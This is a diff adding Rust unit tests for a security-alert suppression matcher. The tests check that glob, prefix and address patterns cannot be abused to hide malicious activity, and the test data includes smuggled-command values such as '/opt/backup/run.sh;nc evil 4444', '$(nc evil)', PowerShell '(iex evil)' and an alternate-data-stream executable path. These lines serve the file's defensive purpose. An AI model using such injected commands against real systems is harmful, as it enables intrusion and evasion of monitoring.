@@ -1,0 +1,180 @@
+//! What a pattern means by the field that it is for: the name of a file, a command, an address.
+
+use super::evasion::{excludes_only, hides_only};
+use super::*;
+
+#[test]
+fn a_star_stays_in_its_command_wherever_commands_stand() {
+    for path in [
+        "data.command",
+        "data.osquery.columns.cmdline",
+        "data.audit.execve.a2",
+        "data.audit.proctitle",
+        "process.command_line",
+        "process.parent.args",
+    ] {
+        hides_only(&[(
+            path,
+            "{ glob = '/opt/backup/*' }",
+            "/opt/backup/run.sh",
+            &["/opt/backup/run.sh;nc evil 4444", "/opt/backup/$(nc evil)"],
+        )]);
+    }
+    for path in [
+        "data.win.eventdata.commandLine",
+        "data.win.eventdata.processCommandLine",
+        "data.win.eventdata.imagePath",
+        "data.win.eventdata.serviceFileName",
+        "data.win.eventdata.details",
+        "process.parent.command_line",
+    ] {
+        hides_only(&[(
+            path,
+            r"{ glob = 'C:\Scripts\*' }",
+            r"C:\Scripts\a.bat",
+            &[r"C:\Scripts\a.bat & evil"],
+        )]);
+    }
+}
+
+#[test]
+fn parentheses_end_a_star_where_the_pattern_names_powershell() {
+    hides_only(&[
+        (
+            "data.win.eventdata.commandLine",
+            r"{ glob = 'PowerShell.exe -Command C:\Scripts\*' }",
+            r"powershell.exe -Command C:\Scripts\a.ps1 -All $x",
+            &[
+                r"powershell.exe -Command C:\Scripts\a.ps1 (iex evil)",
+                r"powershell.exe -Command C:\Scripts\$(evil)",
+            ],
+        ),
+        (
+            "data.win.eventdata.commandLine",
+            r"{ glob = 'pwsh -File C:\Program Files (x86)\?\*' }",
+            r"pwsh -File C:\Program Files (x86)\a\b.ps1",
+            &[r"pwsh -File C:\Program Files (x86)\(\b.ps1"],
+        ),
+    ]);
+}
+
+#[test]
+fn signs_of_a_shell_are_letters_in_the_name_of_a_file() {
+    hides_only(&[
+        (
+            "syscheck.path",
+            r"{ glob = 'C:\Program Files\App\*' }",
+            r"c:\program files\app\at&t $x;.ini",
+            &[r"c:\program files\app\b\x.ini"],
+        ),
+        (
+            "syscheck.path",
+            "{ glob = '/srv/my share/*.txt' }",
+            "/srv/my share/R&D #1 50%.txt",
+            &["/srv/my share/x/R&D.txt"],
+        ),
+        (
+            "data.win.eventdata.targetFilename",
+            r"{ glob = 'C:\Program Files\App\*' }",
+            r"C:\Program Files\App\R&D.txt",
+            &[r"C:\Program Files\Other\R&D.txt"],
+        ),
+    ]);
+}
+
+#[test]
+fn a_backslash_is_a_letter_in_the_name_of_a_file_of_unix() {
+    hides_only(&[
+        (
+            "syscheck.path",
+            "{ glob = '/etc/systemd/system/*' }",
+            r"/etc/systemd/system/dev-disk-by\x2duuid-1.swap",
+            &[r"/etc/systemd/system/a/dev\x2d1.swap", r"/etc/systemd/system/..\..\x"],
+        ),
+        (
+            "data.audit.exe",
+            "{ glob = '/opt/a?b/*.bin' }",
+            r"/opt/a\b/x\y.bin",
+            &[r"/opt/a\\b/x.bin"],
+        ),
+        ("data.file", "{ glob = '/opt/*' }", "/opt/x", &[r"/opt/x\y"]),
+    ]);
+    excludes_only(&[(
+        "syscheck.path",
+        "{ glob = '/etc/systemd/system/*' }",
+        &["/etc/passwd"],
+        &[r"/etc/systemd/system/dev\x2d1.swap"],
+    )]);
+}
+
+#[test]
+fn a_not_excludes_an_address_in_every_form() {
+    excludes_only(&[
+        (
+            "data.srcip",
+            "'10.0.0.1'",
+            &["10.0.0.10", "::ffff:10.0.0.10", "db01"],
+            &[
+                "10.0.0.1",
+                "::ffff:10.0.0.1",
+                "10.0.0.1:443",
+                "[::ffff:10.0.0.1]:443",
+                "64:ff9b::10.0.0.1",
+                " 10.0.0.1",
+            ],
+        ),
+        (
+            "data.srcip",
+            "{ in = ['10.0.0.1', '10.0.0.2'] }",
+            &["10.0.0.3:443"],
+            &["10.0.0.2:443"],
+        ),
+        (
+            "data.srcip",
+            "'2001:db8::1'",
+            &["2001:db8::2"],
+            &["2001:DB8:0:0::1", "2001:db8::1%eth0", "[2001:db8::1]:443"],
+        ),
+    ]);
+}
+
+#[test]
+fn commands_with_accounts_and_lists_of_paths_are_hidden() {
+    const LINE: &str = "data.win.eventdata.commandLine";
+    for (path, matches, value) in [
+        (LINE, "{ prefix = 'icacls ' }", r"icacls C:\Data /grant CORP\svc:F"),
+        (LINE, "{ regex = 'sqlcmd .*' }", r"sqlcmd -S srv\inst -U CORP\svc:x"),
+        (LINE, "{ glob = 'docker run **' }", r"docker run -v C:\data:C:\data img"),
+        (
+            "data.command",
+            "{ glob = '/usr/bin/chown **' }",
+            r"/usr/bin/chown CORP\svc:users /srv/x",
+        ),
+    ] {
+        assert!(hides_value(path, matches, value), "{matches} on {value}");
+    }
+    assert!(!hides_value(
+        LINE,
+        "{ prefix = 'start ' }",
+        r"start C:\Windows\Tracing:evil.exe"
+    ));
+}
+
+#[test]
+fn elements_of_a_list_of_windows_are_read_as_a_single_value_is() {
+    for (image, expected) in [
+        (serde_json::json!([r"C:\\Backup\\agent.exe"]), true),
+        (
+            serde_json::json!([r"C:\\Backup\\agent.exe", r"C:\\Backup\\b.exe"]),
+            true,
+        ),
+        (serde_json::json!([r"C:\\Backup\\agent.exe", r"C:\\Temp\\b.exe"]), false),
+    ] {
+        let alert = serde_json::json!({
+            "rule": {"id": "100211", "level": 5},
+            "data": {"win": {"eventdata": {"image": image}}},
+        });
+        let matches = r"'data.win.eventdata.image' = { in = ['C:\Backup\agent.exe', 'C:\Backup\b.exe'] }";
+        assert_eq!(hides(matches, &alert.to_string()), expected, "{alert}");
+    }
+}
